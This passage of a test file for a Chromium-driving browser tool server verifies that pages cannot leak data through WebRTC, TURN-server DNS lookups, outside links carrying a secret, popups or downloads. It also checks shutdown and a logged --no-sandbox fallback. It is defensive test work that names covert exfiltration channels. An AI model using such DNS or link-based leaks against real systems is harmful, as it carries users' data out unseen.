    assert.match(textOf(next), /^Opened http:\/\/127\.0\.0\.1:\d+\/ — "Home/);
  });

  // Review finding: a full-page screenshot asked the page for its size over CDP without a
  // time limit, so a page looping after its load held the call for ever (the session with it).
  it('a full-page screenshot of a page that stopped answering fails in bounded time and the page is replaced', async () => {
    const nav = await server.call('browser_navigate', { url: '/busy-later' });
    assert.ok(!nav.isError, textOf(nav));
    // Its script starts looping a second after the load: five, for a loaded machine's late timers.
    await new Promise((r) => setTimeout(r, 5_000));
    const started = Date.now();
    const shot = (await server.client.callTool({ name: 'browser_screenshot', arguments: { full_page: true } }, undefined, { timeout: 30_000 })) as CallToolResult;
    assert.equal(shot.isError, true, textOf(shot));
    assert.match(textOf(shot), /did not say how large it is within 1500 ms.*stopped answering \(a script on it may be looping\), so it was closed/s);
    // Bounded: well before the call's own 30 s timeout (about 4 s here, more on a loaded machine).
    assert.ok(Date.now() - started < 25_000, `answered in ${Date.now() - started} ms`);
    const next = await server.call('browser_navigate', { url: '/' });
    assert.ok(!next.isError, textOf(next));
  });

  it('sends nothing over WebRTC: no STUN packet leaves for a host the guard proxy would refuse', async () => {
    const packets: string[] = [];
    const udp = createSocket('udp4');
    udp.on('message', (m, from) => packets.push(`${m.length} bytes from ${from.address}:${from.port}`));
    await new Promise<void>((ok) => udp.bind(0, '127.0.0.1', ok));
    try {
      await server.call('browser_navigate', { url: `/webrtc?port=${udp.address().port}` });
      // ICE gathering starts at once and retransmits within a second: this waits it out.
      await new Promise((r) => setTimeout(r, 2_500));
      assert.deepEqual(packets, []);
    } finally {
      udp.close();
    }
  });

  // Review finding: a TURN server's name (`turn:<data>.example.com?transport=tcp`) was
  // looked up over DNS, outside the guard proxy: the query itself carries the data out.
  // Chromium's own net log (through a chromiumPath wrapper adding --log-net-log) shows
  // every DNS transaction it starts, without root or a packet capture.
  it('looks up no name over DNS, not even a TURN server a page names', async () => {
    const netLog = join(tmp, 'net-log.json');
    const wrapper = join(tmp, 'chromium-net-log');
    writeFileSync(wrapper, `#!/bin/sh\nexec ${CHROMIUM} --log-net-log=${netLog} --net-log-capture-mode=Everything "$@"\n`, { mode: 0o755 });
    writeFileSync(join(tmp, 'net-log-browser.json'), JSON.stringify({ chromiumPath: wrapper }));
    const s = await spawnServer(['--settings', join(tmp, 'net-log-browser.json'), '--origin', appOrigin], { TMPDIR: tmp });
    const name = `leak-${process.pid}`;
    try {
      const nav = await s.call('browser_navigate', { url: `/turn?name=${name}` });
      assert.ok(!nav.isError, textOf(nav));
      // ICE gathering starts at once; the lookup (when there is one) follows within a second.
      await new Promise((r) => setTimeout(r, 2_000));
    } finally {
      await s.client.close();
    }
    // Chromium writes the log's end when it exits.
    const log = await waitFor(() => {
      try {
        return JSON.parse(readFileSync(netLog, 'utf8')) as { constants: { logEventTypes: Record<string, number> }; events: Array<{ type: number; params?: unknown }> };
      } catch {
        return undefined;
      }
    }, 10_000, `a complete net log at ${netLog}`);
    const types = log.constants.logEventTypes;
    const dns = new Set(['DNS_TRANSACTION', 'DNS_TRANSACTION_QUERY', 'HOST_RESOLVER_SYSTEM_TASK'].map((t) => types[t]));
    assert.ok(types.DNS_TRANSACTION !== undefined, 'this Chromium logs DNS transactions');
    const about = log.events.filter((e) => JSON.stringify(e.params ?? {}).includes(name));
    // The page did ask for the TURN server (through the proxy, which refused it)...
    assert.ok(about.some((e) => e.type === types.HTTP_TRANSACTION_SEND_TUNNEL_HEADERS), 'the TURN connection went to the guard proxy');
    // ...and no name was looked up, neither the TURN server's nor any other.
    const lookups = log.events.filter((e) => dns.has(e.type)).map((e) => JSON.stringify(e.params));
    assert.deepEqual(lookups, []);
  });

  it('a click on a link to another origin names where it led', async () => {
    await server.call('browser_navigate', { url: '/link-out' });
    const r = await server.call('browser_click', { selector: '#out' });
    assert.equal(r.isError, true);
    assert.match(textOf(r), new RegExp(`^Clicking #out led to ${outsideOrigin}/clicked\\?secret=6, outside the dev server: blocked, page reset to about:blank`));
    assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
  });

  // Review finding: a beforeunload prompt was dismissed, which keeps the page: once the
  // page had been clicked, every later navigation and login failed with net::ERR_ABORTED.
  it('leaves a page that asks before it is left, and says it asked', async () => {
    await server.call('browser_navigate', { url: '/unsaved' });
    // The prompt needs the user to have used the page.
    assert.ok(!(await server.call('browser_click', { selector: '#edit' })).isError);
    const mark = await newestEntry(server.call);
    const nav = await server.call('browser_navigate', { url: '/' });
    assert.ok(!nav.isError, textOf(nav));
    assert.match(textOf(nav), /^Opened http:\/\/127\.0\.0\.1:\d+\/ — "Home/);
    assert.match(textOf(await server.call('browser_console_logs', { after: mark })), /\[dialog\] beforeunload: .*\(accepted: the page was left\)/);
  });

  // Review finding: only the driven page's popups were closed; a popup's own popup stayed
  // open, running its scripts (and making requests) for the rest of the session.
  it("closes every page but the one it drives, a popup's popups too", async () => {
    const ticks = () => seen.filter((s) => s.path === 'GET /tick').length;
    await server.call('browser_navigate', { url: '/popups' });
    const mark = await newestEntry(server.call);
    assert.ok(!(await server.call('browser_click', { selector: '#open' })).isError);
    const logs = await waitFor(async () => {
      const t = textOf(await server.call('browser_console_logs', { after: mark }));
      return t.includes('/popper2') ? t : undefined;
    }, 5_000, "the popup's popup to be closed");
    assert.match(logs, /\[popup\] closed a new window opened for about:blank:/);
    await new Promise((r) => setTimeout(r, 500));
    const before = ticks();
    await new Promise((r) => setTimeout(r, 1_500));
    assert.equal(ticks(), before, 'no page is left fetching /tick');
    assert.match(textOf(await server.call('browser_screenshot')), /Screenshot of http:\/\/127\.0\.0\.1:\d+\/popups/);
  });

  // Review finding: a click that started a download answered as if nothing had happened
  // (downloads are refused), so an "export does nothing" report looked reproduced.
  it('says when a click started a download, which it refuses', async () => {
    await server.call('browser_navigate', { url: '/download' });
    const mark = await newestEntry(server.call);
    const click = await server.call('browser_click', { selector: '#get' });
    assert.ok(!click.isError, textOf(click));
    const logs = await waitFor(async () => {
      const t = textOf(await server.call('browser_console_logs', { after: mark }));
      return t.includes('[download]') ? t : undefined;
    }, 5_000, 'the download in browser_console_logs');
    assert.match(logs, /\[download\] refused a download of http:\/\/127\.0\.0\.1:\d+\/export\.csv \(export\.csv\): this browser saves no files/);
  });

  it('closes Chromium when the client closes stdin', async () => {
    assert.ok(userDataDir);
    await server.client.close();
    await waitFor(() => pidsWith(`--user-data-dir=${userDataDir}`).length === 0, 10_000, 'chromium to exit');
    assert.match(server.stderr(), /shutting down \(stdin closed\)/);
    // Removed after Chromium's exit: a moment later on a busy machine.
    await waitFor(() => !existsSync(userDataDir!), 5_000, `the profile to be removed:\n${server.stderr()}`).catch(() => undefined);
    assert.equal(existsSync(userDataDir), false, `the profile was removed:\n${server.stderr()}`);
  });

  it('closes Chromium on SIGTERM', async () => {
    const s = await spawnServer(['--origin', appOrigin], { TMPDIR: tmp });
    try {
      assert.ok(!(await s.call('browser_navigate', { url: '/' })).isError);
      const dir = /user-data-dir=(\S+)/.exec(s.stderr())?.[1] ?? '';
      assert.ok(pidsWith(`--user-data-dir=${dir}`).length > 0);
      const pid = s.transport.pid;
      assert.ok(pid);
      process.kill(pid, 'SIGTERM');
      await waitFor(() => pidsWith(`--user-data-dir=${dir}`).length === 0 && !existsSync(`/proc/${pid}`), 10_000, 'server and chromium to exit');
      assert.match(s.stderr(), /shutting down \(SIGTERM\)/);
      assert.equal(existsSync(dir), false, 'the profile was removed');
    } finally {
      await s.client.close();
    }
  });
});

// Chromium's sandbox needs unprivileged user namespaces, which some systems restrict
// (Ubuntu 24.04's AppArmor): there a launch with it fails, and the browser tools must
// still work, without it, saying so once. A chromiumPath wrapper stands for such a system
// (Chromium's own message, exit 1) whenever it is asked to run with the sandbox; the
// session is told it is not root's.
describe("Chromium's sandbox unavailable", () => {
  let tmp = '';
  before(() => {
    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install chromium (or run scripts/install-test-deps.sh)`);
    tmp = mkdtempSync(join(tmpdir(), 'bugbot-browser-sandbox-'));
  });
  after(() => {
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  // Review finding: any failed first launch (a timeout on a loaded machine, a crash) turned
  // the sandbox off for the rest of the process, with a warning blaming user namespaces.
  // Runs before the fallback test below, which turns it off for good in this process. The
  // wrapper's path holds "sandbox" (this describe's folder): only what was said counts.
  it('a launch that fails another way is reported as it is and leaves the sandbox on', async () => {
    const calls = join(tmp, 'calls-crash.txt');
    const wrapper = join(tmp, 'chromium-crashes');
    writeFileSync(
      wrapper,
      `#!/bin/sh
echo "$*" >> ${calls}
echo "${CHROMIUM}: error while loading shared libraries: libnss3.so: cannot open shared object file: No such file or directory" >&2
exit 127
`,
      { mode: 0o755 },
    );
    const settings = browserSettingsSchema.parse({ chromiumPath: wrapper });
    const logged: string[] = [];
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: tmp, TMPDIR: tmp };
    const session = new BrowserSession(settings, new OriginPolicy([]), (m) => logged.push(m), env, (t) => t, 1001);
    try {
      for (let i = 0; i < 2; i++) {
        await assert.rejects(session.page(), (err: Error) => {
          assert.match(err.message, /did not start: .*libnss3\.so/s);
          return true;
        });
      }
    } finally {
      await session.close();
    }
    const launches = readFileSync(calls, 'utf8').trim().split('\n');
    // One launch per call, each with the sandbox: no relaunch without it, nothing remembered.
    assert.deepEqual(
      launches.map((l) => ` ${l} `.includes(' --no-sandbox ')),
      [false, false],
      launches.join('\n'),
    );
    assert.doesNotMatch(logged.join('\n'), /sandbox could not start|namespaces/, logged.join('\n'));
  });

  it('falls back to --no-sandbox with one warning in the log, and the tools work', async () => {
    const calls = join(tmp, 'calls.txt');
    const wrapper = join(tmp, 'chromium-no-userns');
    writeFileSync(
      wrapper,
      `#!/bin/sh
echo "$*" >> ${calls}
case " $* " in *" --no-sandbox "*) exec ${CHROMIUM} "$@" ;; esac
echo "[0101/000000.000000:FATAL:zygote_host_impl_linux.cc(128)] No usable sandbox! If you are running on Ubuntu 23.10+ or another Linux distro that has disabled unprivileged user namespaces with AppArmor, see https://chromium.googlesource.com/chromium/src/+/main/docs/security/apparmor-userns-restrictions.md." >&2
exit 1
`,
      { mode: 0o755 },
    );
    const settings = browserSettingsSchema.parse({ chromiumPath: wrapper });
    const policy = new OriginPolicy([]);
    const logged: string[] = [];
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: tmp, TMPDIR: tmp };
    const sessions = [1, 2].map(() => new BrowserSession(settings, policy, (m) => logged.push(m), env, (t) => t, 1001));
    try {
      for (const session of sessions) {
        const page = await session.page();
        assert.equal(await page.evaluate('1 + 1'), 2);
      }
    } finally {
      for (const session of sessions) await session.close();
    }
    const launches = readFileSync(calls, 'utf8').trim().split('\n');
    // The first session tried the sandbox, then went without; the second went without at once.
    assert.deepEqual(
      launches.map((l) => ` ${l} `.includes(' --no-sandbox ')),
      [false, true, true],
      launches.join('\n'),
    );
    const warnings = logged.filter((l) => /sandbox could not start/.test(l));
    assert.equal(warnings.length, 1, logged.join('\n'));
    assert.match(warnings[0]!, /--no-sandbox/);
    assert.match(warnings[0]!, /No usable sandbox!/, 'it says what Chromium said');
    assert.equal(logged.filter((l) => /chromium started: .* sandbox=off/.test(l)).length, 2, logged.join('\n'));
  });
});
